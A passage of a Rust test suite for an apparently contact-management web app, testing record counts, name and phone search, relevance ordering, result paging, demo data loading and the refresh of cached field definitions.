        ))
        .expect("records");
        syncdesk::records::search::fill_missing(&mut conn).expect("index");
        assert!(counts::fill_if_empty(&mut conn).expect("fill"));
        assert!(!counts::fill_if_empty(&mut conn).expect("kept"));
    }
    let shown = |html: &str| {
        let marker = "<p class=\"count\"><strong>";
        let start = html.find(marker).expect("a total") + marker.len();
        html[start..start + html[start..].find('<').expect("end")].to_string()
    };
    assert_eq!(shown(&app.get("/contacts").await.body), "10,050");
    let id = create_contact(&app, &[("name", "Grace Hopper")]);
    assert_eq!(shown(&app.get("/contacts").await.body), "10,051");
    assert_eq!(
        shown(&app.get("/contacts?owner=manual").await.body),
        "10,051"
    );
    assert_eq!(shown(&app.get("/contacts?owner=synced").await.body), "0");
    app.post(
        &format!("/records/{id}/forced-manual"),
        &[("value", "true")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    assert_eq!(shown(&app.get("/contacts?forced=yes").await.body), "1");
    app.post(&format!("/records/{id}/archive"), &[("value", "true")])
        .await
        .assert_redirect(&format!("/records/{id}"));
    assert_eq!(shown(&app.get("/contacts").await.body), "10,050");
    assert_eq!(shown(&app.get("/contacts?archived=1").await.body), "1");
    assert_eq!(shown(&app.get("/companies").await.body), "0");
    // A search counts its matches up to its cap.
    assert_eq!(shown(&app.get("/contacts?q=person").await.body), "100+");

    let mut conn = app.state.pool.get().expect("connection");
    assert_eq!(counts::differences(&mut conn).expect("check"), vec![]);
    counts::merge(&mut conn).expect("merge");
    assert_eq!(counts::differences(&mut conn).expect("check"), vec![]);
    // A total a race left wrong is right again after the hourly recount.
    conn.batch_execute(
        "INSERT INTO record_counts (kind, archived, owner_source_id, forced_manual, \
         missing_from_source, records) VALUES ('contact', FALSE, NULL, FALSE, FALSE, 7)",
    )
    .expect("a wrong total");
    assert_eq!(counts::differences(&mut conn).expect("check").len(), 1);
    counts::recount(&mut conn).expect("recount");
    assert_eq!(counts::differences(&mut conn).expect("check"), vec![]);
    drop(conn);
    assert_eq!(shown(&app.get("/contacts").await.body), "10,050");
}

/// A typed prefix longer than the index's prefix lengths is asked as the name words it
/// covers (SQLite), or as a prefix when they are many: either way every record is found.
#[actix_web::test]
async fn long_prefixes_find_every_name_word_they_cover() {
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    for name in ["Ann Smith", "Bo Smithson", "Cy Smithers", "Di Smyth"] {
        create_contact(&app, &[("name", name)]);
    }
    for i in 0..20 {
        create_contact(&app, &[("name", &format!("Abcdef{i} Test"))]);
    }
    let found = |conn: &mut syncdesk::db::DbConn, search: &str| {
        let mut q = ListQuery::new(RecordKind::Contact);
        q.search = search.into();
        q.sort = list::SortKey::Relevance;
        let page = list::page(conn, &q, &[]).expect("page");
        page.rows.len()
    };
    let mut conn = app.state.pool.get().expect("connection");
    assert_eq!(found(&mut conn, "smit"), 3);
    assert_eq!(found(&mut conn, "smithso"), 1);
    assert_eq!(found(&mut conn, "smithsonian"), 0);
    assert_eq!(found(&mut conn, "smith ann"), 1);
    // Twenty words share this prefix: asked as a prefix.
    assert_eq!(found(&mut conn, "abcdef"), 20);
    assert_eq!(found(&mut conn, "abcdef1 test"), 11);
    if !app.db.is_postgres() {
        // An index from before the table of words: filled at start.
        use diesel::connection::SimpleConnection;
        conn.batch_execute("DELETE FROM record_search_words")
            .expect("empty");
        assert_eq!(
            syncdesk::records::search::fill_words_if_empty(&mut conn).expect("fill"),
            29
        );
        assert_eq!(found(&mut conn, "smit"), 3);
    }
}

#[core::prelude::v1::test]
fn demo_data_loads_once() {
    let db = common::TestDb::new();
    let state = syncdesk::AppState::open(db.config()).expect("state");
    let mut conn = state.pool.get().expect("connection");
    let first = syncdesk::records::demo::load(&mut conn, country()).expect("demo");
    assert!(
        first.records_added >= 9 && first.fields_added >= 5,
        "{first:?}"
    );
    let second = syncdesk::records::demo::load(&mut conn, country()).expect("demo again");
    assert_eq!((second.records_added, second.fields_added), (0, 0));
    let contacts = list::page(&mut conn, &ListQuery::new(RecordKind::Contact), &[]).expect("page");
    assert_eq!(contacts.total.count, 6);
    assert!(contacts.rows.iter().any(|r| r.record.company_id.is_some()));
}

#[actix_web::test]
async fn search_finds_prefixes_words_accents_and_phones_as_typed() {
    let mut app = spawn().await;
    let smith = create_contact(
        &app,
        &[
            ("name", "Smith, John"),
            ("email", "jsmith@example.org"),
            ("phone", "+44 20 7946 0101"),
        ],
    );
    create_contact(
        &app,
        &[("name", "Zoé Lefèvre"), ("phone", "06 12 34 56 78")],
    );
    create_contact(&app, &[("name", "Jane Doe"), ("email", "jane@doe.example")]);
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    let names = |body: &str| -> Vec<String> {
        ["Smith, John", "Zoé Lefèvre", "Jane Doe"]
            .iter()
            .filter(|n| body.contains(&format!(">{n}<")))
            .map(|n| n.to_string())
            .collect()
    };
    for (search, expected) in [
        ("smi", vec!["Smith, John"]),
        ("john smith", vec!["Smith, John"]),
        ("JOHN", vec!["Smith, John"]),
        ("lefevre", vec!["Zoé Lefèvre"]),
        ("zoe lef", vec!["Zoé Lefèvre"]),
        ("+44 20 7946 0101", vec!["Smith, John"]),
        ("020 7946 0101", vec!["Smith, John"]),
        ("06 12 34", vec!["Zoé Lefèvre"]),
        ("jane@doe", vec!["Jane Doe"]),
        ("j", vec!["Smith, John", "Jane Doe"]),
        ("nobody", vec![]),
        ("--", vec![]),
        ("(000)", vec![]),
    ] {
        let page = app
            .get(&format!(
                "/contacts?q={}",
                syncdesk::text::url_encode(search)
            ))
            .await;
        page.assert_status(200);
        assert_eq!(names(&page.body), expected, "search {search:?}");
    }

    // The index follows every change, and a database from before it is indexed at start.
    let mut conn = app.state.pool.get().expect("connection");
    service::update(
        &mut conn,
        smith,
        &input(&[("name", "Smyth, Jon")]),
        &Actor::system("test"),
        country(),
    )
    .expect("rename");
    let search = |conn: &mut syncdesk::db::DbConn, text: &str| {
        let mut q = ListQuery::new(RecordKind::Contact);
        q.search = text.into();
        list::page(conn, &q, &[]).expect("page").total.count
    };
    assert_eq!(search(&mut conn, "smith"), 0);
    assert_eq!(search(&mut conn, "smyth jon"), 1);
    {
        use diesel::prelude::*;
        diesel::delete(syncdesk::schema::record_search::table)
            .execute(&mut conn)
            .expect("empty the index");
    }
    assert_eq!(search(&mut conn, "smyth"), 0);
    assert_eq!(
        syncdesk::records::search::fill_missing(&mut conn).expect("fill"),
        3
    );
    assert_eq!(search(&mut conn, "smyth"), 1);
}

#[actix_web::test]
async fn a_search_lists_name_matches_before_email_and_phone_matches() {
    let app = spawn().await;
    create_contact(&app, &[("name", "Zed Smith")]);
    create_contact(
        &app,
        &[("name", "Abe Jones"), ("email", "smith.team@example.org")],
    );
    create_contact(&app, &[("name", "Cara Smithers")]);
    create_contact(
        &app,
        &[("name", "Bea Brown"), ("email", "smithy@example.org")],
    );
    create_contact(&app, &[("name", "Dan Green")]);
    let mut conn = app.state.pool.get().expect("connection");

    // Name matches first, then email matches, each by name; the same a row at a time.
    let expected = ["Cara Smithers", "Zed Smith", "Abe Jones", "Bea Brown"];
    for (limit, descending) in [(50, false), (1, false), (2, false), (3, false), (1, true)] {
        let mut q = ListQuery::new(RecordKind::Contact);
        q.search = "smith".into();
        q.limit = limit;
        q.descending = descending;
        let mut names = Vec::new();
        loop {
            let page = list::page(&mut conn, &q, &[]).expect("page");
            assert_eq!(page.total.count, 4);
            names.extend(page.rows.iter().map(|r| r.record.name.clone()));
            match page.next {
                Some(next) => q.after = Some(next),
                None => break,
            }
        }
        let mut want: Vec<&str> = expected.to_vec();
        if descending {
            want = vec!["Zed Smith", "Cara Smithers", "Bea Brown", "Abe Jones"];
        }
        assert_eq!(names, want, "limit {limit}, descending {descending}");
    }
}

#[actix_web::test]
async fn a_search_of_several_words_finds_every_record_having_them_all_page_after_page() {
    use syncdesk::records::writer::{self, Catalog, Edit, RecordState};
    let app = spawn().await;
    // 3,000 contacts; "gra wil" is two names a record in 125 has, each term covering two
    // words, so that the index is read in several rounds before a page is full.
    let given = ["Grace", "Graham", "Oliver", "Amelia", "Ivy"];
    let name = |i: usize| {
        let surname = match i % 250 {
            10 | 33 => "Wilson",
            121 => "Williams",
            _ => ["Smith", "Jones", "Brown"][i % 3],
        };
        format!("{} {surname}", given[i % 5])
    };
    let mut conn = app.state.pool.get().expect("connection");
    let catalog = Catalog::load(&mut conn).expect("catalog");
    let edits: Vec<Edit> = (0..3000)
        .map(|i| {
            let mut state = RecordState::blank(RecordKind::Contact);
            state.name = name(i);
            Edit::create(state)
        })
        .collect();
    syncdesk::db::write_tx(&mut conn, |conn| {
        writer::apply(conn, &catalog, &edits, &Actor::system("test"))
    })
    .expect("records");
    let all: Vec<(i64, String)> = {
        use diesel::prelude::*;
        use syncdesk::schema::records;
        records::table
            .order(records::id.asc())
            .select((records::id, records::name))
            .load(&mut conn)
            .expect("records")
    };
    for (search, names) in [
        ("gra wil", vec!["Grace Wilson", "Graham Williams"]),
        ("wilson grace", vec!["Grace Wilson"]),
        ("g w", vec!["Grace Wilson", "Graham Williams"]),
        ("ivy smith", vec!["Ivy Smith"]),
    ] {
        let expected: Vec<i64> = all
            .iter()
            .filter(|(_, name)| names.contains(&name.as_str()))
            .map(|(id, _)| *id)
            .collect();
        let mut q = ListQuery::new(RecordKind::Contact);
        q.search = search.into();
        q.sort = list::SortKey::Relevance;
        q.limit = 7;
        let mut seen = Vec::new();
        loop {
            let page = list::page(&mut conn, &q, &[]).expect("page");
            // Counted up to the cap ("100+" at it).
            let found = expected.len() as i64;
            assert_eq!(
                page.total.count,
                found.min(list::SEARCH_COUNT_CAP),
                "{search}"
            );
            assert_eq!(page.total.more, found >= list::SEARCH_COUNT_CAP, "{search}");
            seen.extend(page.rows.iter().map(|r| r.record.id));
            match page.next {
                Some(next) => q.after = Some(next),
                None => break,
            }
        }
        assert_eq!(seen, expected, "{search}");
    }
}

#[actix_web::test]
async fn a_search_shows_best_matches_first_at_the_cost_of_its_page() {
    use syncdesk::records::writer::{self, Catalog, Edit, RecordState};
    let mut app = spawn().await;
    // 147 Smiths, every third archived, so that the list's other filters drop rows from each
    // batch the index is read in (100 at a time); and one contact found by email only.
    {
        let mut conn = app.state.pool.get().expect("connection");
        let catalog = Catalog::load(&mut conn).expect("catalog");
        let edits: Vec<Edit> = (0..147)
            .map(|i| {
                let mut state = RecordState::blank(RecordKind::Contact);
                state.name = format!("Smith {:04}", 147 - i);
                state.archived = i % 3 == 2;
                Edit::create(state)
            })
            .collect();
        syncdesk::db::write_tx(&mut conn, |conn| {
            writer::apply(conn, &catalog, &edits, &Actor::system("test"))
        })
        .expect("records");
    }
    let by_email = create_contact(
        &app,
        &[("name", "Abe Jones"), ("email", "smith.team@example.org")],
    );
    let mut conn = app.state.pool.get().expect("connection");
    let mut q = ListQuery::new(RecordKind::Contact);
    q.search = "smith".into();
    q.sort = list::SortKey::Relevance;
    let mut seen = Vec::new();
    let mut pages = 0;
    loop {
        let page = list::page(&mut conn, &q, &[]).expect("page");
        // 98 active Smiths and Abe: under the cap, counted exactly.
        assert_eq!(page.total.to_string(), "99");
        seen.extend(
            page.rows
                .iter()
                .map(|r| (r.record.id, r.record.name.clone())),
        );
        pages += 1;
        match page.next {
            Some(next) => q.after = Some(next),
            None => break,
        }
    }
    assert_eq!(pages, 2);
    assert_eq!(seen.len(), 99);
    // The name matches in the order they were added, then the one found by email.
    let ids: Vec<i64> = seen.iter().map(|(id, _)| *id).collect();
    assert!(ids[..98].windows(2).all(|w| w[0] < w[1]));
    assert_eq!(seen[0].1, "Smith 0147");
    assert_eq!(ids[98], by_email);
    assert!(seen.iter().all(|(_, name)| {
        let n: i64 = name.trim_start_matches("Smith ").parse().unwrap_or(1);
        name == "Abe Jones" || (147 - n) % 3 != 2
    }));

    // Past the cap the count stops; in the console a search sorts by best match, and a
    // column's header still sorts by that column.
    drop(conn);
    {
        let mut conn = app.state.pool.get().expect("connection");
        let catalog = Catalog::load(&mut conn).expect("catalog");
        let edits: Vec<Edit> = (0..200)
            .map(|i| {
                let mut state = RecordState::blank(RecordKind::Contact);
                state.name = format!("Smith extra {i}");
                Edit::create(state)
            })
            .collect();
        syncdesk::db::write_tx(&mut conn, |conn| {
            writer::apply(conn, &catalog, &edits, &Actor::system("test"))
        })
        .expect("records");
    }
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    let page = app.get("/contacts?q=smith").await;
    page.assert_status(200)
        .assert_contains("<strong>100+</strong> contacts matching")
        .assert_contains("Smith 0147");
    assert!(
        !page.body.contains("Name ▲"),
        "no column is the order of a search"
    );
    app.get("/contacts?q=smith&sort=name")
        .await
        .assert_contains("Name ▲")
        .assert_contains("Smith 0002");
}

/// The list keeps fields, sources and follow-up templates in memory between requests; a
/// change written by another console (here straight into the database, as its triggers see
/// any writer) shows on the next page.
#[actix_web::test]
async fn list_pages_show_definitions_changed_by_another_console() {
    use diesel::connection::SimpleConnection;
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    let field = add_field(&app, RecordKind::Contact, "loyalty", "text", "");
    create_contact(&app, &[("name", "Ada Lovelace")]);
    let columns = "/contacts?cols=1&col=loyalty";
    app.get(columns)
        .await
        .assert_status(200)
        .assert_contains("LOYALTY");

    let other_console = syncdesk::db::connect(&app.db.url).expect("another pool");
    let mut conn = other_console.get().expect("connection");
    conn.batch_execute("UPDATE field_defs SET label = 'Loyalty band' WHERE key = 'loyalty'")
        .expect("rename");
    let page = app.get(columns).await;
    page.assert_status(200).assert_contains("Loyalty band");
    assert!(!page.body.contains("LOYALTY"), "the old label is gone");

    conn.batch_execute(&format!(
        "UPDATE field_defs SET archived = TRUE WHERE id = {field}"
    ))
    .expect("archive");
    let page = app.get(columns).await;
    assert!(
        !page.body.contains("Loyalty band"),
        "an archived field is no column"
    );

    conn.batch_execute(
        "INSERT INTO followup_templates (kind, name, subject, body, html, created_at, updated_at) \
         VALUES ('contact', 'Welcome pack', 's', 'b', FALSE, CURRENT_TIMESTAMP, CURRENT_TIMESTAMP)",
    )
    .expect("template");
    app.get("/contacts").await.assert_contains("Welcome pack");
}
